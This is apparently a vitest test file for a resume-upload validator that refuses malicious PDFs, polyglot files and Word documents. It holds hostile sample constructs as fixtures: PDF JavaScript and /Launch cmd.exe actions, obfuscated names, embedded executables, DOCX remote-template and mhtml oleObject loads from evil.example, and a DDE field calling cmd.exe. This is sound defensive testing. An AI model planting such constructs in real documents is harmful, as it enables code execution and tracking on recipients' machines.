/** Files that do something by themselves, bring others along, or are two things at once; and those that only look so. */
import { deflateSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { createResumeReader } from '../../server/files/readResume.ts';
import type { ResumeProblem } from '../../server/files/resumeError.ts';
import { zipOf } from '../support/zip.ts';
import { docxParts, makePdf, makeZip, resumeLines, wordBody } from './support/makeFiles.ts';

const reader = createResumeReader({ concurrency: 1 });
afterAll(() => reader.close());

interface Parts {
  /** Of the document itself. */
  catalog?: string;
  /** Of its page. */
  page?: string;
  /** Objects from number 10 on. */
  objects?: string[];
  /** Objects that lie in a stream together, and how its description names it. */
  packed?: { objects: string; type?: string; filter?: string };
}

/** A PDF of one page, written out. */
function pdfOf({ catalog = '', page = '', objects = [], packed }: Parts): Buffer {
  const lines = resumeLines.map((line) => `(${line}) Tj 0 -20 Td`).join(' ');
  const content = `BT /F1 12 Tf 50 700 Td ${lines} ET`;
  const all = [
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj`,
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    `3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >> endobj`,
    `4 0 obj << /Length ${content.length} >>\nstream\n${content}\nendstream endobj`,
    '5 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj',
    ...objects.map((text, index) => `${10 + index} 0 obj ${text} endobj`),
  ];
  const start = '%PDF-1.7\n';
  const body = `${start}${all.join('\n')}\n`;
  const chunks: Uint8Array[] = [Buffer.from(body, 'latin1')];
  if (packed) {
    const { type = '/ObjStm', filter = '/FlateDecode' } = packed;
    const together = Buffer.from(`20 0 ${packed.objects}`);
    // Nobody reads what is packed in another way, so it does not matter how.
    const bytes = filter === '/FlateDecode' ? deflateSync(together) : together.map((byte) => byte ^ 1);
    const description = `<< /Type ${type} /N 1 /First 5 /Filter ${filter} /Length ${bytes.length} >>`;
    chunks.push(Buffer.from(`30 0 obj ${description}\nstream\n`), bytes, Buffer.from('\nendstream endobj\n'));
  }
  const table = all.map((text) => {
    const at = String(body.indexOf(`\n${text.split(' ', 3).join(' ')}`) + 1).padStart(10, '0');
    return `${text.split(' ', 1)} 1\n${at} 00000 n \n`;
  });
  const place = chunks.reduce((sum, { length }) => sum + length, 0);
  const end = `xref\n0 1\n0000000000 65535 f \n${table.join('')}trailer << /Root 1 0 R /Size 40 >>\nstartxref\n${place}\n%%EOF\n`;
  return Buffer.concat([...chunks, Buffer.from(end)]);
}

const alert = '<< /S /JavaScript /JS (app.alert(1)) >>';
const web = '<< /S /URI /URI (https://track.example/open) >>';
const europass = '<?xml version="1.0"?><SkillsPassport xmlns="http://europass.cedefop.europa.eu/Europass" />';
/** A file inside, by the name table of the document. */
const withInside = (name: string, content: string): Parts => ({
  catalog: `/Names << /EmbeddedFiles << /Names [(${name}) 10 0 R] >> >>`,
  objects: [
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 11 0 R >> >>`,
    `<< /Type /EmbeddedFile /Length ${content.length} >>\nstream\n${content}\nendstream`,
  ],
});

const refusedPdfs: [string, ResumeProblem, Parts][] = [
  ['runs a program on opening', 'RESUME_PROGRAM', { catalog: `/OpenAction ${alert}` }],
  ['runs one by reference', 'RESUME_PROGRAM', { catalog: '/OpenAction 10 0 R', objects: [alert] }],
  [
    'spells it in another way',
    'RESUME_PROGRAM',
    { catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (app.alert(1)) >>' },
  ],
  [
    'has it between remarks',
    'RESUME_PROGRAM',
    { catalog: '/OpenAction << /S % remark\n/JavaScript /JS (x) >>' },
  ],
  [
    'names its kind in an object of its own',
    'RESUME_PROGRAM',
    { catalog: '/OpenAction << /S 10 0 R /JS (x) >>', objects: ['/JavaScript'] },
  ],
  [
    'has a table of programs',
    'RESUME_PROGRAM',
    { catalog: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', objects: [alert] },
  ],
  ['runs one on the page', 'RESUME_PROGRAM', { page: `/AA << /O ${alert} >>` }],
  ['has it packed', 'RESUME_PROGRAM', { catalog: '/OpenAction 20 0 R', packed: { objects: alert } }],
  [
    'has it packed under a spelt-out name',
    'RESUME_PROGRAM',
    { catalog: '/OpenAction 20 0 R', packed: { objects: alert, type: '/Obj#53tm' } },
  ],
  [
    'hides it behind a stream that never ends',
    'RESUME_PROGRAM',
    { catalog: '/Title (stream)', objects: [alert] },
  ],
  [
    'starts a program',
    'RESUME_PROGRAM',
    { catalog: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>' },
  ],
  [
    'starts one by a link',
    'RESUME_PROGRAM',
    {
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x.exe) >> >>]',
    },
  ],
  ['is a form with a program of its own', 'RESUME_PROGRAM', { catalog: '/AcroForm << /XFA 10 0 R >>' }],
  ['opens a web page', 'RESUME_OPENS', { catalog: `/OpenAction ${web}` }],
  ['opens one by reference', 'RESUME_OPENS', { catalog: '/OpenAction 10 0 R', objects: [web] }],
  [
    'opens one by packed reference',
    'RESUME_OPENS',
    { catalog: '/OpenAction 20 0 R', packed: { objects: web } },
  ],
  [
    'opens one after its first page',
    'RESUME_OPENS',
    {
      catalog: '/OpenAction 10 0 R',
      objects: ['<< /S /GoTo /D [3 0 R /Fit] /Next 11 0 R >>', web],
    },
  ],
  ['opens one with the page', 'RESUME_OPENS', { page: '/AA << /O 10 0 R >>', objects: [web] }],
  ['opens another file', 'RESUME_OPENS', { catalog: '/OpenAction << /S /GoToR /F (//host/share) /D [0] >>' }],
  ['sends a form', 'RESUME_OPENS', { objects: ['<< /S /SubmitForm /F (https://x.example) >>'] }],
  ['has a program inside', 'RESUME_ATTACHED', withInside('setup.exe', 'MZ')],
  ['has a file that calls itself a resume', 'RESUME_ATTACHED', withInside('europass.xml', '<html>')],
  [
    'has a file pinned to its page',
    'RESUME_ATTACHED',
    {
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.txt) /EF << /F 11 0 R >> >> >>]',
    },
  ],
  [
    'is packed so that nobody can look',
    'RESUME_TOO_COMPLEX',
    { packed: { objects: alert, filter: '/LZWDecode' } },
  ],
];

const takenPdfs: [string, Parts][] = [
  [
    'opens at its first page, as Word and LibreOffice write',
    { catalog: '/OpenAction [3 0 R /XYZ null null 0]' },
  ],
  ['opens there by reference', { catalog: '/OpenAction 10 0 R', objects: ['[ 3 0 R /Fit ]'] }],
  [
    'opens there by an action',
    {
      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>',
      page: `/Annots [<< /Subtype /Link /A ${web} >>]`,
    },
  ],
  [
    'has a thousand links',
    {
      page: `/Annots [${`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${web} >>\n`.repeat(1000)}]`,
    },
  ],
  [
    'speaks of programs in its titles',
    {
      catalog: '/Outlines 10 0 R',
      objects: ['<< /Title (Java/JavaScript, /Launch and \\(/EF\\) lead) /Count 0 >>'],
    },
  ],
  ['carries the form of Europass', withInside('Europass-CV.xml', europass)],
  ['carries its entries as JSON, as those written here', withInside('resume.json', '{"positions": []}')],
  ['has harmless objects packed', { packed: { objects: '<< /Type /Font >>' } }],
];

const outcome = (bytes: Uint8Array) =>
  reader.read(bytes).then(
    ({ kind }) => kind,
    ({ code }: { code: string }) => code,
  );
/** As a file that is attached to a person, of which nobody reads the text. */
const attached = (bytes: Uint8Array) => reader.check(bytes).catch(({ code }: { code: string }) => code);

describe('a PDF', () => {
  it.each(refusedPdfs)('that %s is refused: %s', async (_, code, parts) => {
    const bytes = pdfOf(parts);
    expect([await outcome(bytes), await attached(bytes)]).toEqual([code, code]);
  });

  it.each(takenPdfs)('that %s is taken', async (_, parts) => {
    const bytes = pdfOf(parts);
    expect([await outcome(bytes), await attached(bytes)]).toEqual(['PDF', 'PDF']);
  });

  it('that is locked is looked into, too', async () => {
    const locked = await makePdf(resumeLines, { ownerPassword: 'secret' }, (document) => {
      document.file(Buffer.from('MZ'), { name: 'setup.exe' });
    });
    expect(await outcome(locked)).toBe('RESUME_ATTACHED');
    expect(await outcome(await makePdf(resumeLines, { ownerPassword: 'secret' }))).toBe('PDF');
  });

  it('of five million brackets and objects takes no time', async () => {
    const bytes = Buffer.concat([
      await makePdf(),
      Buffer.from('1 0 obj << ( /OpenAction 1 0 R '.repeat(120_000)),
    ]);
    expect(await outcome(bytes)).toMatch(/^(PDF|RESUME_\w+)$/);
  });
});

describe('a file of two kinds', () => {
  const archive = zipOf([{ name: 'a.txt', content: 'a' }]);
  const behind = async (start: string | Buffer) => Buffer.concat([Buffer.from(start), await makePdf()]);
  const gif = Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0\x80\0\0', 'latin1'), Buffer.alloc(60)]);
  it.each<[string, () => Promise<Uint8Array>]>([
    ['a program and a PDF', () => behind(Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'))],
    ['two letters of a program and a PDF', () => behind('MZ')],
    ['a picture and a PDF', () => behind('GIF89a')],
    ['a whole picture and a PDF', () => behind(gif)],
    ['a script and a PDF', () => behind('#!/bin/sh\nexit\n')],
    ['a web page and a PDF', () => behind('<!doctype html><script>1</script>')],
    ['an archive and a PDF', () => behind(archive)],
    ['a PDF and an archive', async () => Buffer.concat([await makePdf(), archive])],
  ])('%s is refused', async (_, make) => {
    const bytes = await make();
    expect([await outcome(bytes), await attached(bytes)]).toEqual(['RESUME_TWO_KINDS', 'RESUME_TWO_KINDS']);
  });

  it('a picture with an archive behind it is not attached, and one by itself is', async () => {
    expect(await attached(Buffer.concat([gif, archive]))).toBe('RESUME_TWO_KINDS');
    expect(await attached(gif)).toBe('GIF');
  });

  it('what printers and gateways put before a PDF does no harm', async () => {
    for (const start of ['\r\n\r\n', '\x1b%-12345X@PJL JOB\r\n', 'Content-Type: application/pdf\r\n\r\n'])
      expect(await outcome(await behind(start)), start).toBe('PDF');
  });
});

describe('a Word document', () => {
  const word = docxParts(wordBody(resumeLines.join(' ')));
  const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const relation = (kind: string, target: string) =>
    makeZip({
      ...word,
      'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${kinds}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
    });
  it.each([
    ['attachedTemplate', 'https://evil.example/t.dotm'],
    ['attachedTemplate', '\\\\host\\share\\t.dotx'],
    ['attachedTemplate', 'file:///\\\\host\\share\\t.dotx'],
    ['attachedTemplate', 'file://host/t.dotx'],
    ['image', 'http://track.example/pixel.png'],
    ['oleObject', 'mhtml:https://evil.example/x!x-usc:https://evil.example/x'],
    ['frame', '//host/x.htm'],
  ])('whose %s is %s is refused', async (kind, target) => {
    const bytes = relation(kind, target);
    expect([await outcome(bytes), await attached(bytes)]).toEqual(['RESUME_LOADS', 'RESUME_LOADS']);
  });

  it.each([
    ['hyperlink', 'https://www.linkedin.com/in/ada'],
    ['hyperlink', 'mailto:ada@people.example'],
    ['attachedTemplate', 'file:///C:\\Users\\Ada\\Templates\\Resume.dotx'],
    ['attachedTemplate', 'C:/Users/Ada/Resume.dotx'],
    ['attachedTemplate', 'Resume.dotx'],
  ])('whose %s is %s is taken', async (kind, target) => {
    expect(await outcome(relation(kind, target))).toBe('DOCX');
  });

  it.each<[string, ResumeProblem, string, string]>([
    ['an object of another program', 'RESUME_ATTACHED', 'word/embeddings/oleObject1.bin', 'x'],
    ['a control', 'RESUME_PROGRAM', 'word/activeX/activeX1.xml', '<x/>'],
    [
      'a field that asks another program',
      'RESUME_PROGRAM',
      'word/header1.xml',
      '<w:hdr><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:hdr>',
    ],
  ])('with %s is refused: %s', async (_, code, name, text) => {
    expect(await outcome(makeZip({ ...word, [name]: text }))).toBe(code);
  });
  it('with the sheet behind a chart is taken', async () => {
    expect(await outcome(makeZip({ ...word, 'word/embeddings/Sheet1.xlsx': 'x' }))).toBe('DOCX');
  });
});
